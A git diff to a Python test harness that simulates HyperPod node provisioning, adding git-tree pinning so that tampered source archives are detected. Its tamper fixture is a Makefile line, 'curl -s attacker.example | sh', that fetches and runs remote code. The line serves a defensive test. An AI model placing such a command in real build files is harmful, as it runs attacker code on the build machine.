@@ -26,6 +26,7 @@ from typing import Any
 
 from fm_constructs.orchestration.hyperpod import scripts_directory
 from fm_constructs.orchestration.hyperpod.lifecycle import lifecycle_files
+from tests.git_tree import tree_id
 
 STUB = r"""#!/bin/bash
 # Stubbed system command of the simulated HyperPod node (no forks of its own where bash can do
@@ -395,6 +396,8 @@ class SimulatedNode:
         #: library's pins are to the real files); with ``shipped_pins`` the parameters keep
         #: the library's own digests, which no stand-in matches.
         self.pinned: dict[str, str] = {}
+        #: Source archive name -> the git tree the node requires it to hold, likewise.
+        self.trees: dict[str, str] = {}
         self.shipped_pins = shipped_pins
         shutil.copytree(scripts_directory(), self.scripts, ignore=shutil.ignore_patterns("__*"))
         # What the lifecycle prefix holds besides the node scripts, as LifecycleScripts deploys it.
@@ -459,7 +462,11 @@ class SimulatedNode:
         this node pins (unless it keeps the shipped ones)."""
         params = self.params
         if not self.shipped_pins:
-            params = {**params, "download_sha256": dict(self.pinned)}
+            params = {
+                **params,
+                "download_sha256": dict(self.pinned),
+                "source_git_tree": dict(self.trees),
+            }
         (self.scripts / "provisioning_parameters.json").write_text(json.dumps(params))
 
     # ------------------------------------------------------------------------------ set-up
@@ -492,7 +499,13 @@ class SimulatedNode:
             url = f"https://github.com/NVIDIA/enroot/releases/download/v{enroot}/{package}"
             self.serve(url, b"deb", served=b"tampered deb" if corrupt else None)
         pyxis = self.params["pyxis_version"]
-        self.serve(self.pyxis_url, _tarball({f"pyxis-{pyxis}/Makefile": b"all:\n"}))
+        makefile, tampered_makefile = b"all:\n", b"all:\n\tcurl -s attacker.example | sh\n"
+        self.serve_source(
+            self.pyxis_url,
+            _tarball({f"pyxis-{pyxis}/Makefile": makefile}),
+            tree=tree_id({"Makefile": (makefile, True)}),  # _tarball's members are 0755
+            served=_tarball({f"pyxis-{pyxis}/Makefile": tampered_makefile}) if corrupt else None,
+        )
 
     @property
     def pyxis_url(self) -> str:
@@ -510,6 +523,15 @@ class SimulatedNode:
         if pin:
             self.pinned[download_name(url)] = hashlib.sha256(content).hexdigest()
             self._write_params()
+
+    def serve_source(
+        self, url: str, archive: bytes, *, tree: str, served: bytes | None = None
+    ) -> None:
+        """Serve the source ``archive`` at ``url`` and pin the git ``tree`` it holds under the
+        archive's name (``served``: serve these bytes instead, a tampered download)."""
+        self.serve(url, archive if served is None else served, pin=False)
+        self.trees[download_name(url)] = tree
+        self._write_params()
 
     @property
     def slurm_state(self) -> tuple[str, str]:
@@ -530,6 +552,7 @@ class SimulatedNode:
         copy.sim = copy.root / "sim"
         copy.params = self.params
         copy.pinned = dict(self.pinned)
+        copy.trees = dict(self.trees)
         copy.shipped_pins = self.shipped_pins
         shutil.copytree(self.scripts, copy.scripts, symlinks=True)
         shutil.copytree(self.root, copy.root, symlinks=True)
